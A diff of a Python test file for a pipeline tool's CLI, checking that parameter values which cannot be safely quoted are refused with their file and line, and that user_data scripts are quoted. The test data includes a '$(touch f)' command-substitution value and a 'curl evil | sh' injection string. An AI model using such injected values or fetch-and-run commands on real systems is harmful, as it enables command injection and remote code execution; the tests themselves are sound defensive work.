@@ -79,11 +79,11 @@ def test_cli_env_passes_a_value_anywhere(tmp_path: Path) -> None:
     assert not (tmp_path / "f").exists()
 
 
-def test_cli_value_where_it_cannot_be_quoted_fails_the_stage(tmp_path: Path) -> None:
+def test_cli_value_where_it_cannot_be_quoted_is_refused_before_anything_runs(tmp_path: Path) -> None:
     file = pipeline(tmp_path, "cat > out.txt <<EOF\nversion=${trigger.params.version}\nEOF")
     r = gk(f"sqlite:///{tmp_path / 'g.db'}", "run", str(file), "--param", "version=$(touch f)", "--wait")
-    assert r.returncode == 1
-    assert "here-document" in r.stdout and "pass it through env" in r.stdout, r.stdout
+    assert r.returncode == 2
+    assert f"{file}:7:" in r.stderr and "here-document" in r.stderr and "pass it through env" in r.stderr, r.stderr
     assert "Traceback" not in r.stdout + r.stderr
     assert not (tmp_path / "out.txt").exists() and not (tmp_path / "f").exists()
 
@@ -148,3 +148,15 @@ def test_user_data_script_is_quoted_like_a_command(stage_type: str) -> None:
     # anything else (cloud-config) is text, resolved as before
     config = stype.resolve_config({"user_data": "#cloud-config\nhostname: ${trigger.params.v}"}, scope)
     assert config["user_data"] == "#cloud-config\nhostname: 1.0; curl evil | sh"
+
+
+def test_validate_reports_a_value_that_cannot_be_quoted_with_its_place(tmp_path: Path) -> None:
+    file = pipeline(tmp_path, "cat > out.txt <<EOF\nversion=${trigger.params.version}\nEOF")
+    r = gk(f"sqlite:///{tmp_path / 'g.db'}", "validate", str(file))
+    assert r.returncode == 2, r.stdout + r.stderr
+    out = r.stdout + r.stderr
+    assert f"{file}:7:" in out and "here-document" in out and "pass it through env" in out, out
+    assert "Traceback" not in out
+    # a command whose values can all be quoted is valid
+    ok = pipeline(tmp_path, 'echo "v=${trigger.params.version}" ${trigger.params.version}')
+    assert gk(f"sqlite:///{tmp_path / 'g.db'}", "validate", str(ok)).returncode == 0
